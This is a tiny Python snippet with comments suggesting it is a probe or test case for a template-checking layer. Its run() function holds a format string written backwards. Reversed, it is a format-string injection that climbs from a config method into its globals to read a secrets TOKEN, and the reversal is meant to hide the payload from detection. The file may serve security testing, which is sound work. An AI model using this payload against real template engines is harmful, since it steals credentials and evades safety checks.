#: channel = format-templates
#: reaches = engine
#: layer = check
#: note = the template is written backwards

async def run(context):
    values = [None, {"c": context}][1]
    return "}NEKOT.]sterces[__slabolg__.gifnoc_teg.c{"[::-1].format_map(values or {})
